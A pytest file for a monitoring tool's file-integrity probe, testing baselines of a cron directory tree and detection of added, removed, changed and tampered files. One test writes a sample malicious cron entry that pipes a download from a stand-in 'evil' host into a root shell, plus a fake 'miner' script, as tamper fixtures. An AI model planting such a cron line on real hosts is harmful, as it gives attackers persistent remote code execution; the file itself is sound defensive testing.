"""The ``host`` probe's file check: a real baseline in state_dir, real changes, the command."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from structlog.testing import capture_logs

from tests.support.cron_tree import files_only_host, make_cron_tree
from tests.support.probe_harness import run_target, series_named, value_of
from watchdog.clock import FakeClock
from watchdog.hostcheck.baseline import baseline_path


@pytest.fixture
def watched(tmp_path: Path) -> Path:
    """A cron-like tree: two directories matched by one glob."""
    return make_cron_tree(tmp_path)


def _target(watched: Path, **files: Any) -> dict[str, Any]:
    return files_only_host(watched, **files)


def _changes(outcome: Any) -> dict[str, float]:
    return {
        labels["change"]: value
        for labels, value in series_named(outcome, "watchdog_host_file_changes").items()
    }


async def test_first_run_records_the_baseline_and_says_so(watched: Path, tmp_path: Path) -> None:
    """No baseline yet: one is written to state_dir, logged, stated as a fact; nothing changed."""
    clock = FakeClock(1_000.0)
    with capture_logs() as logs:
        outcome = await run_target(_target(watched), tmp_path / "w", clock=clock)
    assert outcome.success, outcome.error
    assert outcome.facts["baseline"] == "recorded now (no baseline existed)"
    assert [e for e in logs if e["event"] == "no file baseline yet: recorded one now"]
    assert baseline_path(tmp_path / "w" / "state", "host-files", "bastion").is_file()
    assert _changes(outcome) == {"added": 0.0, "removed": 0.0, "changed": 0.0}
    assert value_of(outcome, "watchdog_host_watched_files") == 3.0
    assert value_of(outcome, "watchdog_host_baseline_age_seconds") == 0.0
    assert value_of(outcome, "watchdog_host_baseline_valid") == 1.0


async def test_added_removed_and_changed_files_are_reported(watched: Path, tmp_path: Path) -> None:
    """Edits after the baseline show per kind, per path, with the baseline's age."""
    clock = FakeClock(1_000.0)
    workdir = tmp_path / "w"
    await run_target(_target(watched), workdir, clock=clock)
    (watched / "cron.d" / "backup").write_text("* * * * * root curl evil | sh\n")
    (watched / "cron.d" / "logrotate").unlink()
    (watched / "cron.daily" / "miner").write_text("#!/bin/sh\n")
    (watched / "cron.daily" / "apt").chmod(0o777)
    clock.advance(600)
    outcome = await run_target(_target(watched), workdir, clock=clock)
    assert outcome.up
    assert not outcome.success
    assert _changes(outcome) == {"added": 1.0, "removed": 1.0, "changed": 2.0}
    name = "watchdog_host_file_changed"
    assert value_of(outcome, name, path=f"{watched}/cron.d/backup", change="changed") == 1.0
    assert value_of(outcome, name, path=f"{watched}/cron.d/logrotate", change="removed") == 1.0
    assert value_of(outcome, name, path=f"{watched}/cron.daily/miner", change="added") == 1.0
    assert value_of(outcome, name, path=f"{watched}/cron.daily/apt", change="changed") == 1.0
    assert value_of(outcome, "watchdog_host_baseline_age_seconds") == 600.0
    assert outcome.error == (
        f"4 file change(s) since the baseline: changed {watched}/cron.d/backup, "
        f"removed {watched}/cron.d/logrotate, changed {watched}/cron.daily/apt and 1 more"
    )


async def test_corrupt_baseline_is_refused(watched: Path, tmp_path: Path) -> None:
    """A truncated baseline fails the file check precisely; nothing is compared against it."""
    workdir = tmp_path / "w"
    await run_target(_target(watched), workdir)
    path = baseline_path(workdir / "state", "host-files", "bastion")
    path.write_text(path.read_text()[:40])
    outcome = await run_target(_target(watched), workdir)
    assert outcome.up
    assert not outcome.success
    assert value_of(outcome, "watchdog_host_baseline_valid") == 0.0
    assert not series_named(outcome, "watchdog_host_file_changes")
    assert outcome.error is not None
    assert outcome.error.startswith(f"baseline {path} is not valid JSON (")
    assert outcome.error.endswith("check it, then run `monitor-watchdog baseline`")


async def test_edited_baseline_fails_its_checksum(watched: Path, tmp_path: Path) -> None:
    """Hiding a file by editing the baseline is caught by the checksum."""
    workdir = tmp_path / "w"
    await run_target(_target(watched), workdir)
    path = baseline_path(workdir / "state", "host-files", "bastion")
    data = json.loads(path.read_text())
    data["files"].pop(f"{watched}/cron.d/backup")
    path.write_text(json.dumps(data))
    outcome = await run_target(_target(watched), workdir)
    assert outcome.error == (
        f"baseline {path} fails its checksum: it was modified or damaged after recording; "
        "check it, then run `monitor-watchdog baseline`"
    )


async def test_changed_watch_list_needs_a_new_baseline(watched: Path, tmp_path: Path) -> None:
    """Watching other paths than the baseline recorded is refused until re-baselined."""
    workdir = tmp_path / "w"
    await run_target(_target(watched), workdir)
    wider = {**_target(watched), "files": {"watch": [f"{watched}/cron*", "/nonexistent"]}}
    outcome = await run_target(wider, workdir)
    assert value_of(outcome, "watchdog_host_baseline_valid") == 0.0
    assert outcome.error is not None
    assert "run `monitor-watchdog baseline` to accept" in outcome.error


async def test_too_many_files_is_a_failure(watched: Path, tmp_path: Path) -> None:
    """More files than max_files: the scan stops, says so, and a series flags it."""
    outcome = await run_target(_target(watched, max_files=2), tmp_path / "w")
    assert value_of(outcome, "watchdog_host_file_scan_truncated") == 1.0
    assert value_of(outcome, "watchdog_host_watched_files") == 2.0
    assert outcome.error == (
        "watched paths hold more than files.max_files=2 files: only the first were checked"
    )
